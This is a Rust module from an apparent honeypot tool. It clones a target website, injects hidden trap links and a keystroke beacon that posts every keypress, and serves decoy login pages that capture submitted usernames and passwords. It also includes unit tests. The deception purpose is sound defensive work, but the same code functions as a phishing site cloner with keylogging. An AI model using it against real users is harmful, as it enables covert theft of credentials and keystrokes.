//! Site cloning and trap injection.
//!
//! `clone_site` fetches the target page, mirrors its CSS/JS assets under a
//! local prefix and injects the deception payload before the closing body
//! marker. Asset discovery is a best-effort regex pass over the fetched
//! text, not a DOM parse; the mirror only needs to locate link/src
//! attributes and the `</body>` marker. A failed asset fetch is non-fatal:
//! the reference is pointed back at the origin so the page stays visually
//! functional.

use std::{collections::HashMap, sync::Arc, time::Duration};

use regex::Regex;
use reqwest::{header::USER_AGENT, Client, Url};
use tracing::{error, info, warn};

use crate::{
    error::CloneError,
    events::{CapturedEvent, EventKind, EventLog},
};

pub const ASSETS_PREFIX: &str = "/assets";

const ROOT_TIMEOUT: Duration = Duration::from_secs(10);
const ASSET_TIMEOUT: Duration = Duration::from_secs(5);
const CLONE_USER_AGENT: &str = "Mozilla/5.0";

/// Trap paths advertised in the hidden link block and served as decoy
/// login pages.
pub const TRAP_PATHS: [(&str, &str); 4] = [
    ("/admin", "Panel admin"),
    ("/wp-admin", "wp-admin"),
    ("/login", "login"),
    ("/phpmyadmin", "phpMyAdmin"),
];

/// The servable result of one clone: rewritten HTML plus the mirrored
/// assets keyed by base filename. One artifact exists per instance and each
/// successful clone replaces it wholesale.
#[derive(Debug, Clone)]
pub struct Artifact {
    pub html: String,
    pub assets: HashMap<String, String>,
}

pub struct ContentCloner {
    client: Client,
    events: Arc<EventLog>,
    inject: bool,
    css_re: Regex,
    js_re: Regex,
}

impl ContentCloner {
    pub fn new(events: Arc<EventLog>, inject_traps: bool) -> Self {
        Self {
            client: Client::new(),
            events,
            inject: inject_traps,
            css_re: Regex::new(r#"<link[^>]*href=["']([^"']*\.css)["']"#).unwrap(),
            js_re: Regex::new(r#"<script[^>]*src=["']([^"']*\.js)["']"#).unwrap(),
        }
    }

    /// Fetch `url` and produce a servable artifact. Only an unreachable root
    /// page is an error; everything downstream degrades.
    pub async fn clone_site(&self, url: &str) -> Result<Artifact, CloneError> {
        self.record(
            CapturedEvent::system(EventKind::System)
                .with("action", "clone_start")
                .with("url", url),
        );
        info!(%url, "cloning target site");

        let response = match self
            .client
            .get(url)
            .header(USER_AGENT, CLONE_USER_AGENT)
            .timeout(ROOT_TIMEOUT)
            .send()
            .await
            .and_then(|r| r.error_for_status())
        {
            Ok(r) => r,
            Err(source) => return Err(self.root_failure(url, source)),
        };

        // Resolve asset references against the final URL, redirects included.
        let base = response.url().clone();
        let mut html = match response.text().await {
            Ok(body) => body,
            Err(source) => return Err(self.root_failure(url, source)),
        };

        let mut assets = HashMap::new();
        self.mirror_assets(&mut html, &mut assets, &base, &self.css_re, "style.css")
            .await;
        self.mirror_assets(&mut html, &mut assets, &base, &self.js_re, "script.js")
            .await;

        if self.inject {
            html = inject_traps(&html);
        }

        self.record(
            CapturedEvent::system(EventKind::System)
                .with("action", "clone_done")
                .with("url", url),
        );
        info!(%url, assets = assets.len(), "clone completed");

        Ok(Artifact { html, assets })
    }

    async fn mirror_assets(
        &self,
        html: &mut String,
        assets: &mut HashMap<String, String>,
        base: &Url,
        pattern: &Regex,
        fallback_name: &str,
    ) {
        let mut references: Vec<String> = pattern
            .captures_iter(html)
            .map(|c| c[1].to_string())
            .collect();
        references.dedup();

        for reference in references {
            let resolved = match base.join(&reference) {
                Ok(u) => u,
                Err(_) => continue,
            };
            match self.fetch_asset(resolved.clone()).await {
                Ok(body) => {
                    let name = base_name(&resolved, fallback_name);
                    // collisions on base filename silently overwrite
                    assets.insert(name.clone(), body);
                    *html = html.replace(&reference, &format!("{ASSETS_PREFIX}/{name}"));
                }
                Err(e) => {
                    warn!(url = %resolved, error = %e, "asset fetch failed, keeping remote reference");
                    // Point the reference at the origin so the page still
                    // renders when served from the mirror.
                    if reference != resolved.as_str() {
                        *html = html.replace(&reference, resolved.as_str());
                    }
                }
            }
        }
    }

    async fn fetch_asset(&self, url: Url) -> reqwest::Result<String> {
        self.client
            .get(url)
            .header(USER_AGENT, CLONE_USER_AGENT)
            .timeout(ASSET_TIMEOUT)
            .send()
            .await?
            .error_for_status()?
            .text()
            .await
    }

    fn root_failure(&self, url: &str, source: reqwest::Error) -> CloneError {
        self.record(
            CapturedEvent::system(EventKind::Error)
                .with("action", "clone_error")
                .with("url", url)
                .with("error", source.to_string()),
        );
        error!(%url, error = %source, "root page fetch failed, clone aborted");
        CloneError::RootFetch {
            url: url.to_string(),
            source,
        }
    }

    fn record(&self, event: CapturedEvent) {
        if let Err(e) = self.events.append(&event) {
            error!(error = %e, "failed to append clone event");
        }
    }
}

fn base_name(url: &Url, fallback: &str) -> String {
    url.path_segments()
        .and_then(|segments| segments.last())
        .filter(|s| !s.is_empty())
        .map(str::to_string)
        .unwrap_or_else(|| fallback.to_string())
}

/// The deception payload: a hidden block of trap links plus a keystroke
/// beacon posting every keydown, the page identifier and a timestamp to the
/// capture endpoint.
pub fn trap_markup() -> String {
    let links: String = TRAP_PATHS
        .iter()
        .map(|(path, label)| format!(r#"        <a href="{path}">{label}</a>"#))
        .collect::<Vec<_>>()
        .join("\n");
    format!(
        r#"
    <div style="display:none;">
{links}
    </div>
    <script>
        document.addEventListener('keydown', function(e) {{
            fetch('/log_teclas', {{
                method: 'POST',
                headers: {{'Content-Type': 'application/json'}},
                body: JSON.stringify({{tecla: e.key, pagina: 'index', timestamp: new Date().toISOString()}})
            }});
        }});
    </script>
    "#
    )
}

/// Insert the deception payload immediately before the closing body marker.
/// A page without the marker is left unchanged.
pub fn inject_traps(html: &str) -> String {
    html.replace("</body>", &format!("{}</body>", trap_markup()))
}

/// Decoy credential page served on the trap paths, shaped like a typical
/// intranet login. Submissions land on the capture endpoint with a hidden
/// origin tag; keystrokes stream to the beacon endpoint.
pub fn decoy_login_page(section: &str, host: &str) -> String {
    let mut title: String = section.to_string();
    if let Some(first) = title.get_mut(0..1) {
        first.make_ascii_uppercase();
    }
    format!(
        r#"<!DOCTYPE html>
<html lang="es">
<head>
    <title>{title} - {host}</title>
    <meta charset="utf-8">
    <meta name="viewport" content="width=device-width, initial-scale=1">
    <style>
        body {{ font-family: 'Segoe UI', Tahoma, Geneva, Verdana, sans-serif; margin:0; padding:40px; background:#f6f8fa; }}
        .container {{ max-width:420px; margin:0 auto; background:white; padding:24px; border-radius:8px; box-shadow:0 8px 24px rgba(0,0,0,0.08); }}
        input, button {{ width:100%; padding:12px; margin-top:8px; border-radius:6px; border:1px solid #ddd; box-sizing:border-box; }}
        button {{ background:#2b7cff; color:white; border:none; }}
    </style>
</head>
<body>
    <div class="container">
        <h2>🔐 {title}</h2>
        <p>Acceso seguro - {host}</p>
        <form method="POST" action="/capturar_credenciales">
            <input type="hidden" name="origen" value="{section}">
            <input type="text" name="usuario" placeholder="Usuario" required>
            <input type="password" name="password" placeholder="Contraseña" required>
            <input type="hidden" name="honeypot_trap">
            <button type="submit">Iniciar sesión</button>
        </form>
    </div>
    <script>
        document.addEventListener('keydown', function(e) {{
            fetch('/log_teclas', {{
                method: 'POST',
                headers: {{'Content-Type': 'application/json'}},
                body: JSON.stringify({{ tecla: e.key, pagina: '{section}', timestamp: new Date().toISOString() }})
            }});
        }});
    </script>
</body>
</html>"#
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn injection_lands_immediately_before_the_body_close() {
        let html = "<html><head></head><body><p>hola</p></body></html>";
        let out = inject_traps(html);

        assert_eq!(out.matches("</body>").count(), 1);
        assert!(out.ends_with(&format!("{}</body></html>", trap_markup())));
        assert!(out.contains(r#"<a href="/wp-admin">"#));
        assert!(out.contains("fetch('/log_teclas'"));
    }

    #[test]
    fn page_without_marker_is_unchanged() {
        let html = "<html><p>fragment</p>";
        assert_eq!(inject_traps(html), html);
    }

    #[test]
    fn decoy_page_posts_to_the_capture_endpoint() {
        let page = decoy_login_page("admin", "intranet.example.com");
        assert!(page.contains(r#"action="/capturar_credenciales""#));
        assert!(page.contains(r#"name="origen" value="admin""#));
        assert!(page.contains("pagina: 'admin'"));
        assert!(page.contains("Admin - intranet.example.com"));
    }

    #[test]
    fn base_name_falls_back_on_empty_paths() {
        let url = Url::parse("https://example.com/static/app.min.js").unwrap();
        assert_eq!(base_name(&url, "script.js"), "app.min.js");

        let bare = Url::parse("https://example.com/").unwrap();
        assert_eq!(base_name(&bare, "style.css"), "style.css");
    }

    #[test]
    fn asset_regexes_find_relative_and_absolute_references() {
        let cloner = ContentCloner::new(
            Arc::new(EventLog::new("/dev/null", true)),
            false,
        );
        let html = r#"<link rel="stylesheet" href="/css/main.css">
            <script src="https://cdn.example.com/app.js"></script>"#;

        let css: Vec<&str> = cloner
            .css_re
            .captures_iter(html)
            .map(|c| c.get(1).unwrap().as_str())
            .collect();
        let js: Vec<&str> = cloner
            .js_re
            .captures_iter(html)
            .map(|c| c.get(1).unwrap().as_str())
            .collect();

        assert_eq!(css, vec!["/css/main.css"]);
        assert_eq!(js, vec!["https://cdn.example.com/app.js"]);
    }
}
